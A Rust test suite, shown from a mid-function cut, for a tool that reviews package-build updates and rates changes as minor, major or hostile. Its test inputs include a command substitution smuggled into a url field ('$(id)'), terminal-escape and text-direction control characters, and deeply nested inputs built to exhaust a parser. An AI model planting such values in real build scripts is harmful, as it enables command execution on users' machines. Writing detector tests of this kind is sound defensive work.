        let source = format!("git+https://github.com/them/a.git#tag=v{tag}");
        Folder::default()
            .with(PKGBUILD, format!("pkgname=a\npkgver={version}\npkgrel=1\nsource=('{source}')\nmd5sums=(SKIP)\n"))
    };
    assert_eq!(classify(&text("7.1rc7", "7.1-rc7"), &text("7.1", "7.1")).verdict, Decision::Minor);
    assert_eq!(classify(&text("7.1rc7", "7.1-rc7"), &text("7.1", "7.2")).verdict, Decision::Major);
}

#[test]
fn what_is_too_large_or_too_deep_is_unreadable() {
    for text in ["x".repeat(1_000_000), "(".repeat(100_000), "$(".repeat(100_000), "a=${b:-".repeat(30_000)] {
        let mut update = Update::ordinary();
        update.add(PKGBUILD, &text);
        assert!(codes(&update.verdict()).contains(&"unreadable"), "{}", &text[..10]);
    }
}

#[test]
fn every_algorithm_is_known_by_the_length_of_its_checksums() {
    for (array, digits) in [
        ("md5sums", 32),
        ("sha1sums", 40),
        ("sha224sums", 56),
        ("sha384sums", 96),
        ("sha512sums", 128),
        ("b2sums", 128),
    ] {
        let package = |version: &str, digit: &str, digits: usize| {
            let text = format!("pkgname=x\npkgver={version}\npkgrel=1\n{array}_i686=('{}')\n", digit.repeat(digits));
            Folder::default().with(PKGBUILD, text)
        };
        let verdict = |after| classify(&package("1", "a", digits), &package("2", "b", after)).verdict;
        assert_eq!(verdict(digits), Decision::Minor, "{array}");
        for wrong in [0, digits - 1, digits + 1, digits / 2] {
            assert_eq!(verdict(wrong), Decision::Major, "{array} {wrong}");
        }
    }
}

#[test]
fn versions_are_read_from_the_pkgbuild_with_their_epoch() {
    let mut update = Update::ordinary();
    update.always(PKGBUILD, "license=('MIT')", "epoch=2");
    let verdict = update.verdict();
    assert_eq!(verdict.old_version.expect("plain").as_str(), "2:1.2.3-2");
    assert_eq!(verdict.new_version.expect("plain").as_str(), "2:1.3.0-1");
}

#[test]
fn reasons_never_carry_raw_control_characters() {
    let mut update = Update::ordinary();
    update.pkgbuild("patch -Np1", "\u{1b}[2Kpatch\0 \u{202e}-Np1");
    update.srcinfo("\tlicense", "\t\u{1b}x = y\n\tlicense");
    update.add("a\u{1b}b", "");
    for reason in update.verdict().reasons {
        for text in [Some(reason.file), reason.old, reason.new, Some(reason.message)].into_iter().flatten() {
            assert!(first_hidden(text.as_bytes()).is_none(), "{text:?}");
        }
    }
}

#[test]
fn a_reason_names_the_line_and_both_texts() {
    let verdict = Update::ordinary().verdict();
    let reason = verdict.reasons.iter().find(|reason| reason.code == "version-forward").expect("there");
    insta::assert_json_snapshot!(reason, @r#"
    {
      "code": "version-forward",
      "severity": "version",
      "file": "PKGBUILD",
      "line": 4,
      "field": null,
      "old": "1.2.3",
      "new": "1.3.0",
      "rule": null,
      "message": "pkgver moved forward"
    }
    "#);
}

#[test]
fn hostile_sizes_take_bounded_time() {
    let values: Vec<_> = (0..20_000).map(|number| format!("\tsource = {number}{}\n", "1".repeat(40))).collect();
    let values = values.concat();
    let arrays = "sha256sums=(\n".repeat(100_000);
    for text in ["x".repeat(1_000_000), arrays, "(".repeat(500_000), "'".repeat(500_000), "pkgver=".repeat(100_000)] {
        let mut update = Update::ordinary();
        update.add(PKGBUILD, &text);
        update.add(SRCINFO, &format!("{}{values}", filled(SRCINFO_TEXT)));
        assert_eq!(update.verdict().verdict, Decision::Major);
    }
}

proptest! {
    #[test]
    fn any_two_folders_can_be_compared(
        old in proptest::collection::vec(any::<u8>(), 0..200),
        new in "(pkgver=|pkgrel=|md5sums=\\(|'|\\)|\\n|[0-9a-f.]|SKIP|\\PC){0,60}",
    ) {
        let folder = |bytes: &[u8]| Folder::default().with(PKGBUILD, bytes).with(SRCINFO, bytes);
        let verdict = classify(&folder(&old), &folder(new.as_bytes()));
        prop_assert_eq!(verdict.verdict == Decision::Minor, old == new.as_bytes());
    }
}

#[test]
fn what_is_too_long_or_too_deep_is_unreadable_and_needs_a_person() {
    let deep = |open: &str, close: &str| format!("_x={}{}\n", open.repeat(50_000), close.repeat(50_000));
    let texts = [
        ("a line of a megabyte", format!("_x={}\n", "x".repeat(1 << 20))),
        ("nested substitutions", deep("$(", ")")),
        ("nested expansions", deep("${a:-", "}")),
        ("nested arithmetic", deep("$((", "))")),
        ("nested brackets", format!("f() {}\n", "(".repeat(100_000))),
        ("nested braces", format!("f() {}\n", "{ ".repeat(100_000))),
        ("nested conditions", "if ".repeat(80_000)),
        ("nested loops", "while true; do ".repeat(15_000)),
        ("nested here-documents", "cat <<A; ".repeat(25_000)),
    ];
    for (name, text) in texts {
        let old = package();
        let new = old.clone().with("PKGBUILD", format!("{}{text}", filled(PKGBUILD_TEXT)));
        for verdict in [classify(&old, &new), classify(&new, &old)] {
            assert_eq!(verdict.verdict, Decision::Major, "{name}");
            assert!(verdict.reasons.iter().any(|reason| reason.code == "unreadable"), "{name}: {:?}", codes(&verdict));
            assert!(verdict.reasons.len() < 50, "{name}");
        }
    }
}

#[test]
fn a_long_list_of_braces_or_elements_is_not_worked_out_and_not_let_through() {
    for line in [format!("_x=({})", "{a,b}".repeat(2_000)), format!("_x=({})", "x ".repeat(100_000))] {
        let old = package();
        let new = old.clone().with("PKGBUILD", format!("{}{line}\n", filled(PKGBUILD_TEXT)));
        assert_eq!(classify(&old, &new).verdict, Decision::Major);
    }
}

#[test]
fn very_many_differences_are_told_by_the_heaviest_of_them() {
    let kinds: [fn(usize, u8) -> String; 5] = [
        |number, side| format!("_v{number}ver={side}.{number}\n"),
        |number, side| format!("depends+=(a{number}_{side})\n"),
        |number, side| format!("a{number} {side}\n"),
        |number, side| format!("f{number}() {{ a {side}; }}\nf{number}\n"),
        |number, side| format!("source_a{number}=(https://x{number}.example/{side})\n"),
    ];
    for kind in kinds {
        let side = |side: u8| -> String { (0..1500).map(|number| kind(number, side)).collect() };
        let hostile = "url=\"$(id)\"\n";
        let old = package().with(PKGBUILD, format!("{}{}", filled(PKGBUILD_TEXT), side(1)));
        let new = package().with(PKGBUILD, format!("{}{}{hostile}", filled(PKGBUILD_TEXT), side(2)));
        let verdict = classify(&old, &new);
        assert_eq!(verdict.severity, Weight::Hostile, "{}", side(1).lines().next().unwrap_or_default());
        assert!(verdict.reasons.len() <= 500, "{}", verdict.reasons.len());
        assert!(verdict.reasons.iter().any(|reason| reason.code == "substitution"));
    }
}
